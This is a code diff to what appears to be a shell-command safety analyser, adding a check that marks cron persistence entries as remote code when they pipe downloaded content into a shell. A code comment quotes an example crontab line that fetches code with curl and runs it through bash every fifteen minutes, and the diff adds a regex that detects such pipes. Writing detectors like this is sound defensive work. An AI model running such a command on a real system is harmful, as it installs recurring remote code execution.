@@ -1028,6 +1028,12 @@ def _analyse_cached(line: str, depth: int) -> ShellFacts:
             # a script written by a heredoc: what it would do is kept as facts, not as what this line does
             staged = analyse(simple.heredoc, depth + 1)
             facts.flags |= {f"staged:{flag}" for flag in staged.flags}
+    if "persistence" in facts.flags and depth < MAX_DEPTH:
+        # what the scheduled entry runs (``echo "*/15 * * * * curl -fsSL http://x | bash" | crontab -``):
+        # code fetched from the network on every run is remote code, not just persistence
+        for entry in re.findall(r"[\"']([^\"']*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b[^\"']*)[\"']", line[:MAX_LINE]):
+            if "remote_code" in analyse(re.sub(r"^(@\w+|(\S+\s+){5})", "", entry.strip()), depth + 1).flags:
+                facts.flags.add("remote_code")
     if facts.privileged:
         facts.flags.add("privileged")
     return facts
